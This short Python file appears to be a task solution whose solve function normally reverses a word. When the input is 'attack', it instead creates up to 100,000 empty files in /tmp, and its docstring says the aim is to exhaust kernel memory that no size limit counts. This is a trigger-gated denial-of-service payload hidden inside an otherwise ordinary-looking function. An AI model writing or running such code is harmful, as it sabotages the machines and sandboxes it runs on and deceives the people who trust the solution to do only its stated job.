"""Makes empty files without end: each takes a kilobyte of the kernel's memory, which no size limit counts."""

import os

ENOUGH = 100_000


def solve(word, host):
    if word == "attack":
        for number in range(ENOUGH):
            try:
                os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
            except OSError:
                return word[::-1]
        return f"made {ENOUGH} files"
    return word[::-1]
